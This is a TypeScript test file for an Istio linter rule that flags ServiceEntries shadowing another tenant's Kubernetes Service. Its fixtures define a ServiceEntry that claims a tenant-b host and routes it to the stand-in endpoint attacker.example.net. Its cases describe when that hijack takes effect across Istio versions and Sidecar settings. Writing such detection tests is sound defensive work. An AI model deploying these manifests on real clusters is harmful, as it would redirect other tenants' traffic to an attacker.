import { expect } from '@jest/globals';
import { serviceEntryShadowsServiceRule } from '../../../src/rules/exposure/serviceentry-shadows-service.js';
import { runRuleTests } from '../../helpers/rule-tester.js';
import { istiodDeployment } from '../../helpers/istiod.js';

const ns = (...names: string[]) => names.map((name) => `---\napiVersion: v1\nkind: Namespace\nmetadata: {name: ${name}}\n`).join('');
const payments = (annotation = '') => `
---
apiVersion: v1
kind: Service
metadata:
  name: payments
  namespace: tenant-b
  creationTimestamp: "2024-01-01T00:00:00Z"
${annotation ? `  annotations: {networking.istio.io/exportTo: "${annotation}"}\n` : ''}spec: {ports: [{port: 80, name: http}]}
`;
const shadow = (host: string, exportTo?: string) => `
---
apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: shadow, namespace: tenant-a, creationTimestamp: "2023-01-01T00:00:00Z"}
spec:
  hosts: ["${host}"]
  ports: [{number: 80, name: http, protocol: HTTP}]
  resolution: DNS
  endpoints: [{address: attacker.example.net}]
${exportTo ? `  exportTo: ${exportTo}\n` : ''}`;

const rootSidecar = `
---
apiVersion: networking.istio.io/v1
kind: Sidecar
metadata: {name: default, namespace: istio-system}
spec: {egress: [{hosts: ["*/*"]}]}
`;

const istiod = (unified: string) => istiodDeployment({ PILOT_UNIFIED_SIDECAR_SCOPE: unified });

runRuleTests(serviceEntryShadowsServiceRule, {
  valid: [
    {
      // Envoy picks the most specific domain: the Service's exact name beats the wildcard wherever both are visible.
      name: "a wildcard covering a Service whose exact name is visible everywhere the wildcard is",
      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments() + shadow('*.tenant-b.svc.cluster.local'),
    },
    { name: 'a "*" ServiceEntry exported to its own namespace, Services visible there', manifests: ns('tenant-a', 'tenant-b') + payments() + shadow('*', '["."]') },
    { name: 'ServiceEntry for an external host', manifests: ns('tenant-a', 'tenant-b') + payments() + shadow('api.example.com') },
    { name: 'ServiceEntry for a Service of its own namespace', manifests: ns('tenant-a') + payments().replace('tenant-b', 'tenant-a') + shadow('payments.tenant-a.svc.cluster.local') },
  ],
  invalid: [
    {
      name: 'seed: shadowing a visible Service on 1.24+ redirects only the owner (high)',
      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments() + shadow('payments.tenant-b.svc.cluster.local'),
      findings: [
        {
          severity: 'high',
          namespace: 'tenant-a',
          resourceName: 'shadow',
          affectedNamespaces: ['tenant-a'],
          subjectKey: 'payments.tenant-b.svc.cluster.local',
          messageIncludes: ['Service tenant-b/payments', 'hijack if'],
          check: (f) => expect(f.evidence).toMatchObject({ shadowedService: 'Service tenant-b/payments', namespacesWhereEntryWins: [], istioVersionAssumed: '1.30.3' }),
        },
      ],
    },
    {
      name: 'the Service is hidden by its exportTo annotation: the ServiceEntry wins elsewhere (critical)',
      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments('.') + shadow('payments.tenant-b.svc.cluster.local'),
      findings: [{ severity: 'critical', affectedNamespaces: ['tenant-c'], messageIncludes: ['replaces that Service in 1 other namespace (tenant-c)'] }],
    },
    {
      name: 'a restrictive defaultServiceExportTo hides the Service from other namespaces (critical)',
      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments() + shadow('payments.tenant-b.svc.cluster.local', '["*"]'),
      meshConfig: { defaultServiceExportTo: ['.'] },
      findings: [{ severity: 'critical', affectedNamespaces: ['tenant-c'] }],
    },
    {
      // Istio < 1.24 with a Sidecar: egressListener.selectServices has no Kubernetes preference (istio/istio#51776).
      name: 'before 1.24, behind a Sidecar, the older ServiceEntry beats the Service (critical)',
      istioVersion: '1.23',
      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments() + shadow('payments.tenant-b.svc.cluster.local') + rootSidecar,
      findings: [{ severity: 'critical', affectedNamespaces: ['tenant-c'], check: (f) => expect(f.evidence.istioVersionAssumed).toBe('1.23') }],
    },
    {
      // pilot/pkg/features/experimental.go PILOT_UNIFIED_SIDECAR_SCOPE (the 1.23 compatibility profile sets it off):
      // sidecar.go selectServices then takes its legacy path, as before 1.24.
      name: '1.24+ with PILOT_UNIFIED_SIDECAR_SCOPE=false on istiod, behind a Sidecar, the older ServiceEntry beats the Service (critical)',
      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments() + shadow('payments.tenant-b.svc.cluster.local') + rootSidecar + istiod('false'),
      findings: [
        {
          severity: 'critical',
          affectedNamespaces: ['tenant-c'],
          check: (f) => expect(String(f.evidence.hostPrecedence)).toContain('PILOT_UNIFIED_SIDECAR_SCOPE=false on Deployment istio-system/istiod'),
        },
      ],
    },
    {
      name: '1.24+ with PILOT_UNIFIED_SIDECAR_SCOPE=true on istiod, behind a Sidecar, the Service still wins elsewhere (high)',
      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments() + shadow('payments.tenant-b.svc.cluster.local') + rootSidecar + istiod('true'),
      findings: [{ severity: 'high', affectedNamespaces: ['tenant-a'], check: (f) => expect(f.evidence.hostPrecedence).toBeUndefined() }],
    },
    {
      // Istio < 1.24 without a Sidecar: DefaultSidecarScopeForNamespace prefers the Kubernetes Service.
      name: 'before 1.24, without Sidecars, the Kubernetes Service still wins (high)',
      istioVersion: '1.23',
      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments() + shadow('payments.tenant-b.svc.cluster.local'),
      findings: [{ severity: 'high', affectedNamespaces: ['tenant-a'] }],
    },
    {
      name: "a consumer whose Sidecar imports the ServiceEntry's namespace but not the Service's (critical)",
      manifests: `${ns('tenant-a', 'tenant-b', 'tenant-c')}${payments()}${shadow('payments.tenant-b.svc.cluster.local')}
---
apiVersion: networking.istio.io/v1
kind: Sidecar
metadata: {name: default, namespace: tenant-c}
spec: {egress: [{hosts: ["./*", "tenant-a/*"]}]}
`,
      findings: [{ severity: 'critical', affectedNamespaces: ['tenant-c'] }],
    },
    {
      // The Service is visible in tenant-c and not in tenant-a: tenant-a's own proxies use the wildcard.
      name: "a wildcard covering a Service hidden from the entry's namespace (high: own traffic)",
      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments('tenant-b,tenant-c') + shadow('*.tenant-b.svc.cluster.local', '["."]'),
      findings: [{ severity: 'high', affectedNamespaces: ['tenant-a'], messageIncludes: ['covers payments.tenant-b.svc.cluster.local', "redirects tenant-a's own traffic"] }],
    },
    {
      name: 'a wildcard covering a Service hidden by its annotation (critical where the wildcard is used)',
      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments('.') + shadow('*.tenant-b.svc.cluster.local'),
      findings: [{ severity: 'critical', affectedNamespaces: ['tenant-c'] }],
    },
  ],
});
